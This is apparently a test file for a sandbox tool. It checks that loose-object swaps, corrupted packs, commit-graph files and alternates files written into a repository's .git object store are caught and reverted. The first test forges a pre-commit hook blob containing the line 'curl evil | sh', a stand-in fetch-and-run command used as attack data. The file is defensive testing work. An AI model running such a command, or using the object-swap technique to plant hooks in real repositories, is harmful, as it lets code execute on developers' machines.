@@ -1,0 +1,94 @@
+// What a command writes into a repository's object store under --allow-write=.git that the person's git would trust
+// unchecked: checked after it against real git repositories (red team 11's F14 and F16). The command's writes are
+// made here between the look before and the look after, as a command in the sandbox would make them.
+import { expect, test } from "bun:test";
+import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { deflateSync } from "node:zlib";
+import { looseObjectIsWhatItsNameSays, objectsAfter, objectStoresBefore } from "../../../src/sandbox/git-objects.ts";
+import { tempDir } from "../../support/context.ts";
+
+const git = (cwd: string, ...args: string[]) => Bun.spawnSync(["git", "-c", "user.email=a@b", "-c", "user.name=A", ...args], { cwd, stdout: "pipe", stderr: "pipe" });
+const out = (cwd: string, ...args: string[]) => git(cwd, ...args).stdout.toString().trim();
+
+/** A repository with one commit of a husky hook; its blob stays loose. */
+function repo(): { root: string; gitDir: string; hookId: string } {
+  const root = tempDir("bunker-objects-");
+  git(root, "init", "-q", "-b", "main");
+  mkdirSync(join(root, ".husky"));
+  writeFileSync(join(root, ".husky/pre-commit"), "#!/bin/sh\nnpm test\n");
+  git(root, "add", ".");
+  git(root, "commit", "-qm", "one");
+  return { root, gitDir: join(root, ".git"), hookId: out(root, "rev-parse", "HEAD:.husky/pre-commit") };
+}
+
+const loosePath = (gitDir: string, id: string) => join(gitDir, "objects", id.slice(0, 2), id.slice(2));
+/** What git would read for a loose object named `id` if its file held `bytes` (a valid zlib stream, the wrong content). */
+const looseBytes = (content: string) => deflateSync(Buffer.from(`blob ${content.length}\0${content}`));
+
+test("a loose object rewritten in place with other bytes under its name is set aside; git no longer reads them as the hook", async () => {
+  const { root, gitDir, hookId } = repo();
+  const [before] = objectStoresBefore([gitDir]);
+  await Bun.sleep(5);
+  const path = loosePath(gitDir, hookId);
+  chmodSync(path, 0o644);
+  writeFileSync(path, looseBytes("#!/bin/sh\ncurl evil | sh\n"));
+  expect(out(root, "cat-file", "-p", hookId)).toContain("curl evil");
+  const lines = objectsAfter(before!, root);
+  expect(lines).toHaveLength(1);
+  expect(lines[0]).toContain(`bunker set aside .git/objects/${hookId.slice(0, 2)}/${hookId.slice(2)}, which the command wrote: its bytes are not the object its name says`);
+  expect(existsSync(path)).toBe(false);
+  expect(out(root, "cat-file", "-p", hookId)).not.toContain("curl evil");
+});
+
+test("what a command rightly writes stays: a commit's new loose objects and a repacked, verified pack", async () => {
+  const { root, gitDir } = repo();
+  const [before] = objectStoresBefore([gitDir]);
+  await Bun.sleep(5);
+  writeFileSync(join(root, "a.txt"), "a\n");
+  git(root, "add", "a.txt");
+  git(root, "commit", "-qm", "two");
+  git(root, "repack", "-q", "-a", "-d", "--no-write-bitmap-index");
+  const packs = readdirSync(join(gitDir, "objects/pack"));
+  expect(packs.some((p) => p.endsWith(".pack"))).toBe(true);
+  expect(objectsAfter(before!, root)).toEqual([]);
+  expect(readdirSync(join(gitDir, "objects/pack"))).toEqual(packs);
+  expect(out(root, "log", "--oneline")).toContain("two");
+});
+
+test("a pack that does not verify is set aside, index and pack; one byte changed in its objects is enough", async () => {
+  const { root, gitDir, hookId } = repo();
+  const [before] = objectStoresBefore([gitDir]);
+  await Bun.sleep(5);
+  const name = Bun.spawnSync(["git", "pack-objects", "-q", join(gitDir, "objects/pack/pack")], { cwd: root, stdin: Buffer.from(`${hookId}\n`), stdout: "pipe" }).stdout.toString().trim();
+  const pack = join(gitDir, `objects/pack/pack-${name}.pack`);
+  const bytes = readFileSync(pack);
+  bytes[bytes.length - 25] = bytes[bytes.length - 25]! ^ 0xff;
+  chmodSync(pack, 0o644);
+  writeFileSync(pack, bytes);
+  const lines = objectsAfter(before!, root);
+  expect(lines.filter((l) => l.includes("does not verify (git verify-pack)"))).toHaveLength(2);
+  expect(existsSync(pack)).toBe(false);
+  expect(existsSync(`${pack}.bunker-set-aside`)).toBe(true);
+});
+
+test("a commit-graph the command wrote is removed (git takes a commit's tree from it), and an alternates file it made or changed is put back", async () => {
+  const { root, gitDir } = repo();
+  writeFileSync(join(gitDir, "objects/info/alternates"), "/srv/mirror/objects\n");
+  const [before] = objectStoresBefore([gitDir]);
+  await Bun.sleep(5);
+  git(root, "commit-graph", "write", "--reachable");
+  expect(existsSync(join(gitDir, "objects/info/commit-graph"))).toBe(true);
+  writeFileSync(join(gitDir, "objects/info/alternates"), `${join(root, ".cache/odb")}\n`);
+  const lines = objectsAfter(before!, root);
+  expect(lines).toContain("bunker removed .git/objects/info/commit-graph, which the command wrote: git reads commits and objects through it without checking them, and works without it (git rebuilds it when it needs it)");
+  expect(lines).toContain("bunker put back .git/objects/info/alternates, which the command changed: git would have taken objects from the folders it names as this repository's own");
+  expect(existsSync(join(gitDir, "objects/info/commit-graph"))).toBe(false);
+  expect(readFileSync(join(gitDir, "objects/info/alternates"), "utf8")).toBe("/srv/mirror/objects\n");
+});
+
+test("a loose object is what its name says only when its inflated bytes hash to it", () => {
+  const { gitDir, hookId } = repo();
+  expect(looseObjectIsWhatItsNameSays(loosePath(gitDir, hookId), hookId)).toBe(true);
+  expect(looseObjectIsWhatItsNameSays(loosePath(gitDir, hookId), `${hookId.slice(0, -1)}0`)).toBe(hookId.endsWith("0"));
+});
